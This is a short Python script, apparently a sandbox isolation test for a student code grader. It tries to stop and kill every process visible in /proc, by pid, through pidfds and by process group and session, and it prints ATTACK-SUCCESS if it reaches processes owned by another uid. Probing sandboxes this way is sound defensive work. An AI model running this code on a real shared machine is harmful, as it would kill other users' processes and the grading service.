"""Signal every process it can see in /proc (SIGSTOP first, then SIGKILL), every process group and session
found there, by pid and through pidfds: a stopped or killed grader would end or hang the whole run.

Where the sandbox has no PID namespace of its own (the uid sandbox), /proc shows the whole machine: the
coordinator, the workers, the zygotes, other students' children. None of them may be reachable. A signal that
reaches a process of another uid is reported as a success.
"""
import os
import signal

own_uid = os.getuid()
own = {os.getpid()}
SYS_PIDFD_OPEN, SYS_PIDFD_SEND_SIGNAL = 434, 424


def owner(pid):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]
groups = set()
for pid in pids:
    try:
        fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        groups.update({int(fields[2]), int(fields[3])})  # process group, session
    except (OSError, IndexError, ValueError):
        pass
reached = []
for sig in (signal.SIGSTOP, signal.SIGKILL):
    for pid in pids:
        try:
            os.kill(pid, sig)
            if owner(pid) not in (None, own_uid):
                reached.append(pid)
        except OSError:
            pass
        try:
            fd = os.pidfd_open(pid)
            try:
                signal.pidfd_send_signal(fd, sig)
                if owner(pid) not in (None, own_uid):
                    reached.append(pid)
            finally:
                os.close(fd)
        except (OSError, AttributeError):
            pass
    for group in groups - {0, os.getpgid(0)}:
        try:
            os.killpg(group, sig)
        except OSError:
            pass
if reached:
    print("ATTACK-SUCCESS: signalled", sorted(set(reached))[:10])
print("ATTACK-DONE", len(pids), "processes seen")
